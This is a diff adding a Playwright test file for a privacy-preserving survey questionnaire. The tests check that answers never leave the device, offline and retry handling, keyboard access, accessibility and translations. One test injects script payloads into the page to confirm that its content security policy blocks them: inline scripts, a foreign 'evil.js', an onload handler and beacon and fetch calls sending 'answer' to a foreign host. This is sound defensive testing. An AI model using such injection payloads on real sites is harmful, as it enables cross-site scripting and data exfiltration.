@@ -1,0 +1,388 @@
+"""The questionnaire in a browser: what leaves the device, what stays on it, and whether everybody can use it."""
+
+import json
+from contextlib import ExitStack
+
+import pytest
+from kit_site import CHROMIUM, DUMP, begin, choose, chromium, press, served, visit
+
+from ldpopt.exact import ExactChannel
+from ldpopt.mechanisms import randomized_response
+from ldpopt.survey.kit.folder import kit_files
+from ldpopt.survey.plan.plan import Plan, PlannedQuestion
+
+pytest.importorskip("playwright.sync_api", reason="playwright is not installed: the questionnaire is not opened here")
+pytestmark = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium: the questionnaire is not opened here")
+
+
+def question(name, answers, **more):
+    channel = randomized_response(len(answers), 1.0, inputs=tuple(answers))
+    return PlannedQuestion(name, name, channel.exact(), **more)
+
+
+def plan_of(respondent=None, round=1):
+    questions = (
+        question("Do you smoke?", ("smoke-never-zq", "smoke-daily-zq")),
+        question("District", tuple(f"district-{i}-zq" for i in range(40))),
+        question("Income", ("income-low-zq", "income-high-zq", "income-none-zq"), missing="income-none-zq"),
+    )
+    return Plan("Habits", questions, respondent=respondent, round=round)
+
+
+FRESH, MEMOISED = plan_of(), plan_of("id")
+# The same words whatever the answer, of which the first report follows under every answer to the first two questions.
+FIXED = "crypto.getRandomValues = (array) => array.fill(1);"
+
+
+class Dumps:
+    """What a page keeps, at each look."""
+
+    def __init__(self, page):
+        self.page, self.dumps = page, []
+
+    def look(self):
+        self.dumps.append(self.page.evaluate(DUMP))
+
+
+@pytest.fixture(scope="module")
+def browser():
+    with chromium() as made:
+        yield made
+
+
+@pytest.fixture
+def open_kit(browser):
+    """A function from a plan to its site and a page of a new, empty profile; what it logs is in ``page.said``."""
+    with ExitStack() as stack:
+
+        def start(plan=FRESH, texts=(), **options):
+            site = stack.enter_context(served(kit_files(plan, texts=texts)))
+            context = browser.new_context(**{"locale": "en-GB", **options})
+            stack.callback(context.close)
+            context.set_default_timeout(20000)
+            page = context.new_page()
+            page.said = []
+            page.on("console", lambda message: page.said.append(message.text))
+            page.on("pageerror", lambda error: page.said.append(str(error)))
+            return site, page
+
+        yield start
+
+
+def test_no_answer_leaves_the_device_or_is_kept(open_kit):
+    """In a whole visit no request, header, body, title, address, log or storage has an answer, under either plan."""
+    for plan in (FRESH, MEMOISED):
+        site, page = open_kit(plan)
+        seen, asked = Dumps(page), []
+        page.on("request", lambda request, asked=asked: asked.append((request.url, request.post_data, request.headers)))
+        visit(page, site.url, [1, 17, 0], seen.look)
+        page.reload()
+        page.wait_for_selector("main h1")
+        seen.look()
+        kept = [seen.dumps, page.said, page.context.cookies(), page.context.storage_state()]
+        assert len(seen.dumps) == 7
+        assert "zq" not in json.dumps(kept) + json.dumps(asked) + repr(site.requests)
+        assert len(site.submissions) == 1
+        assert set(site.submissions[0]["reports"]) == {q.name for q in plan.questions}
+        assert {url.rpartition("/")[0] + "/" for url, _, _ in asked} == {site.url}
+        assert page.said == []
+
+
+def test_traffic_and_storage_are_the_same_whatever_the_answers(open_kit):
+    """With the randomness fixed so that the reports are equal, two visits with other answers differ in nothing."""
+    made = []
+    for positions in ([1, 17, 0], [1, 39, 0], [1, 17, 2]):
+        site, page = open_kit()
+        page.add_init_script(FIXED)
+        seen = Dumps(page)
+        visit(page, site.url, positions, seen.look)
+        text = json.dumps([seen.dumps, sorted(repr(one) for one in site.requests)])
+        made.append(text.replace(site.url.removeprefix("http://").strip("/"), "HOST"))
+        assert site.submissions[0]["reports"] == {"Do you smoke?": 0, "District": 0, "Income": 0}
+    assert made[0] == made[1] == made[2]
+
+
+SCRIPTED = """async (address) => {
+  const seen = [];
+  addEventListener("securitypolicyviolation", (event) => seen.push(event.effectiveDirective));
+  const add = (tag, fields) => document.body.append(Object.assign(document.createElement(tag), fields));
+  const tries = [
+    () => add("script", { textContent: "window.ran = true" }),
+    () => add("script", { src: address + "evil.js" }),
+    () => { document.body.innerHTML += "<b onclick='window.ran = true'></b>"; },
+    () => trustedTypes.createPolicy("default", { createScript: (text) => text, createHTML: (text) => text }),
+    () => add("img", { src: address + "seen.png" }),
+    () => add("iframe", { src: address }),
+    () => setTimeout("window.ran = true"),
+    () => navigator.sendBeacon(address, "answer"),
+  ];
+  for (const one of tries) { try { one(); } catch {} }
+  const failed = await fetch(address + "?answer").then(() => false, () => true);
+  await new Promise((done) => setTimeout(done, 300));
+  return { seen, failed, ran: window.ran ?? false };
+}"""
+
+
+def test_an_injected_script_does_not_run(open_kit):
+    """Whether it comes with the page or by a script: inline and foreign code, and foreign addresses, are blocked."""
+    site, page = open_kit()
+    with served({"evil.js": b"window.ran = true;"}) as other:
+        injected = f"""<script>window.ran = true</script><script src="{other.url}evil.js"></script>
+            <img src="icon.svg" onload="window.ran = true"><p id="survey">"""
+        site.files["index.html"] = site.files["index.html"].replace(b'<p id="survey">', injected.encode())
+        begin(page, site.url)
+        page.wait_for_timeout(300)
+        assert page.evaluate("window.ran ?? false") is False
+        assert sum("script-src" in said for said in page.said) == 3, page.said
+        made = page.evaluate(SCRIPTED, other.url)
+        assert made["failed"]
+        assert not made["ran"]
+        assert {"require-trusted-types-for", "trusted-types", "img-src", "frame-src", "connect-src"} <= set(
+            made["seen"]
+        )
+        assert other.requests == []
+
+
+def test_a_visit_without_network_is_sent_later(open_kit):
+    """With the network cut after loading, the reports are kept, and sent as they were once it is back."""
+    site, page = open_kit(MEMOISED)
+    begin(page, site.url)
+    page.context.set_offline(True)
+    press(page)
+    for position in (1, 17, 0):
+        choose(page, position)
+    page.select_option("#top select", "de")
+    press(page)
+    page.wait_for_selector("text=Ihre Meldungen warten")
+    kept = page.evaluate(DUMP)["all"]["unsent"][1]
+    assert site.submissions == []
+    assert "zq" not in json.dumps(kept)
+    page.context.set_offline(False)
+    page.wait_for_selector("text=Danke")
+    assert site.submissions == kept
+    assert page.evaluate(DUMP)["all"]["unsent"] == [[], []]
+
+
+def test_a_retry_after_reloading_sends_the_same(open_kit):
+    """While the collector is busy the reports are kept over reloads, with their id; an error page is no refusal."""
+    site, page = open_kit()
+    site.answers = [(503, {"error": "busy"}), (404, "<html>"), (429, {"error": "busy"})]
+    visit(page, site.url, [0, 1, 2])
+    assert "waiting" in page.inner_text("h1")
+    for _ in range(3):
+        page.reload()
+        page.wait_for_selector("main h1")
+        page.wait_for_timeout(300)
+    assert "arrived" in page.inner_text("h1") or "already" in page.inner_text("h1")
+    assert len(site.submissions) == 4
+    assert all(one == site.submissions[0] for one in site.submissions)
+
+
+def test_an_invitation_is_asked_for(open_kit):
+    """An invitation behind the # is sent and leaves the address; for a refused one another is asked for."""
+    site, page = open_kit()
+    site.answers = [(403, {"error": "This invitation was used."})]
+    visit(page, site.url + "#invitation=first", [0, 1, 2])
+    assert page.url == site.url
+    assert "This invitation was used." in page.inner_text("main")
+    page.fill("#code", " second ")
+    page.click("button.main")
+    page.wait_for_selector("text=Thank you")
+    first, second = site.submissions
+    assert (first.pop("invitation"), second.pop("invitation")) == ("first", "second")
+    assert first == second
+
+
+def test_going_back_draws_nothing_anew(open_kit):
+    """Changing an answer and changing it back shows the first report; one visit draws one report for each answer."""
+    site, page = open_kit()
+    visit_reports = []
+    begin(page, site.url)
+    press(page)
+    for position in (0, 5, 0):
+        choose(page, position)
+    for position in (6, 5, 7, 5):
+        page.click("details summary")
+        page.wait_for_function("document.getElementById('exact').textContent.includes('reports')")
+        visit_reports.append(json.loads(page.inner_text("#exact"))["reports"])
+        page.click("dl button >> nth=1")
+        choose(page, position)
+    press(page)
+    assert visit_reports[0] == visit_reports[2] == site.submissions[0]["reports"]
+
+
+def test_a_memoised_device_repeats_its_report_under_a_key_that_no_script_reads(open_kit):
+    """The same answer gives the same reports after a reload; another person on the device gets another key."""
+    site, page = open_kit(MEMOISED)
+    visit(page, site.url, [1, 17, 0])
+    dump = page.evaluate(DUMP)["all"]
+    assert dump["keys"] == [["Habits"], ["key, extractable: false"]]
+    page.evaluate(
+        """() => new Promise((done) => { const r = indexedDB.open("ldpopt"); r.onsuccess = () => {
+          const t = r.result.transaction("done", "readwrite"); t.objectStore("done").clear();
+          t.oncomplete = () => { r.result.close(); done(); }; }; })"""
+    )
+    visit(page, site.url, [1, 17, 0])
+    assert site.submissions[0]["reports"] == site.submissions[1]["reports"]
+    assert site.submissions[0]["id"] != site.submissions[1]["id"]
+    other = set()
+    for _ in range(4):
+        page.click("details.another summary")
+        page.click("details.another button")
+        page.wait_for_selector("section.promise")
+        press(page)
+        for position in (1, 17, 0):
+            choose(page, position)
+        press(page)
+        other.add(json.dumps(site.submissions[-1]["reports"]))
+    assert len(other) > 1  # four keys give four equal triples of reports with a chance below 1e-4
+
+
+def test_two_tabs_are_one_device(open_kit):
+    """Of two tabs that were open at once only the first sends; the other says that the device has answered."""
+    site, page = open_kit()
+    second = page.context.new_page()
+    begin(second, site.url)
+    visit(page, site.url, [0, 1, 2])
+    press(second)
+    for position in (1, 2, 0):
+        choose(second, position)
+    press(second)
+    assert "already answered" in second.inner_text("h1")
+    assert len(site.submissions) == 1
+
+
+def test_the_keyboard_is_enough(open_kit):
+    """Tab, arrows, space and Enter lead through the whole questionnaire, and the focus starts at each heading."""
+    site, page = open_kit()
+    begin(page, site.url)
+
+    def to(selector):
+        for _ in range(12):
+            page.keyboard.press("Tab")
+            if page.evaluate("(selector) => document.activeElement.matches(selector)", selector):
+                return
+        raise AssertionError(f"no {selector} by Tab")
+
+    to("button.main")
+    page.keyboard.press("Enter")
+    to("input[type=radio]")
+    assert page.evaluate("document.title") == "Question 1 of 3 – Habits"
+    page.keyboard.press("Space")
+    page.keyboard.press("ArrowDown")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("#search")
+    assert page.evaluate("document.activeElement.tagName") == "H1"
+    page.keyboard.press("Tab")
+    page.keyboard.type("district-3")
+    assert page.locator(".choice:visible").count() == 11
+    to("input[type=radio]")
+    page.keyboard.press("Space")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=Question 3 of 3")
+    to("button.main")
+    page.keyboard.press("Enter")  # without an answer: the plan has a category for that
+    page.wait_for_selector("dl")
+    assert page.locator("dd span").all_inner_texts() == ["smoke-daily-zq", "district-3-zq", "income-none-zq"]
+    to("button.main")
+    page.keyboard.press("Enter")
+    page.wait_for_selector("text=Thank you")
+    assert len(site.submissions) == 1
+
+
+VIEWS = {
+    "light": {"viewport": {"width": 1000, "height": 900}},
+    "dark": {"viewport": {"width": 1000, "height": 900}, "color_scheme": "dark"},
+    "phone": {"viewport": {"width": 390, "height": 844}, "has_touch": True},
+    "right to left": {"viewport": {"width": 390, "height": 844}, "locale": "ar"},
+}
+
+
+@pytest.mark.parametrize("view", VIEWS)
+def test_nobody_is_shut_out(open_kit, view):
+    """On every screen axe-core finds no violation, and nothing is wider than the window."""
+    axe = pytest.importorskip(
+        "axe_playwright_python.sync_playwright", reason="axe-playwright-python is not installed"
+    ).Axe()
+    site, page = open_kit(reduced_motion="reduce", **VIEWS[view])
+    found = []
+
+    def look():
+        response = axe.run(page).response["violations"]
+        found.extend((one["id"], [node["html"] for node in one["nodes"]]) for one in response)
+        if page.evaluate("document.documentElement.scrollWidth > innerWidth"):
+            found.append(("wide", page.inner_text("h1")))
+
+    site.answers = [(503, {"error": "busy"}), (403, {"error": "No invitation."})]
+    begin(page, site.url)
+    page.click(".buttons button.plain")
+    page.click("button.main")
+    page.wait_for_selector("#result table")
+    look()
+    begin(page, site.url)
+    press(page)
+    page.click("button.main")
+    assert page.inner_text("#error")
+    look()
+    visit(page, site.url, [0, 3, 1], look)
+    page.click("button.main")
+    page.wait_for_selector("#code")
+    look()
+    page.fill("#code", "abc")
+    page.click("button.main")
+    page.wait_for_selector("details.another")
+    page.click("details.another summary")
+    look()
+    assert page.evaluate("document.documentElement.dir") == ("rtl" if view == "right to left" else "ltr")
+    assert found == []
+
+
+def test_texts_of_the_survey_are_shown_and_missing_ones_fall_back(open_kit):
+    """A survey's own texts stand for the plan's names; what they lack is English, and the plan's own words."""
+    texts = json.dumps(
+        {
+            "code": "he",
+            "direction": "rtl",
+            "survey": "הרגלים",
+            "questions": {"Do you smoke?": {"text": "האם אתם מעשנים?", "answers": {"smoke-never-zq": "לא"}}},
+        }
+    )
+    site, page = open_kit(texts=[texts])
+    begin(page, site.url)
+    assert page.inner_text("#survey") == "הרגלים"
+    assert page.evaluate("[document.documentElement.dir, document.documentElement.lang]") == ["rtl", "he"]
+    press(page)
+    assert page.inner_text("h1") == "האם אתם מעשנים?"
+    assert page.locator(".choice").all_inner_texts() == ["לא", "smoke-daily-zq"]
+    assert page.inner_text("button.main") == "Next"
+    choose(page, 0)
+    for position in (0, 0):
+        choose(page, position)
+    press(page)
+    assert set(site.submissions[0]["reports"]) == {q.name for q in FRESH.questions}
+
+
+def test_files_that_do_not_fit_together_do_not_start(open_kit):
+    """With an altered plan, or a wrong vector, the questionnaire says so and asks nothing."""
+    site, page = open_kit()
+    plan, vectors = json.loads(site.files["plan.json"]), json.loads(site.files["vectors.json"])
+    plan["questions"][0]["weights"].reverse()
+    site.files["plan.json"] = json.dumps(plan).encode()
+    begin(page, site.url)
+    assert "cannot start" in page.inner_text("h1")
+    assert page.locator("button").count() == 0
+    plan["questions"][0]["weights"].reverse()
+    site.files["plan.json"] = json.dumps(plan).encode()
+    vectors["reports"][0][3] += 1
+    site.files["vectors.json"] = json.dumps(vectors).encode()
+    begin(page, site.url)
+    assert "does not draw as it should" in page.inner_text("main")
+
+
+def test_a_plan_without_a_ratio_promises_its_distance(open_kit):
+    """Where a report may be impossible under an answer, the page promises the share of equal reports, rounded down."""
+    erased = ExactChannel([[1, 0, 6, 1], [0, 1, 6, 1]], bits=3, inputs=["no", "yes"])
+    site, page = open_kit(Plan("Erasure", (PlannedQuestion("vote", "vote", erased),)))
+    begin(page, site.url)
+    assert "at least 87% of all cases" in page.inner_text(".promise")
+    assert "times likelier" not in page.inner_text("main")
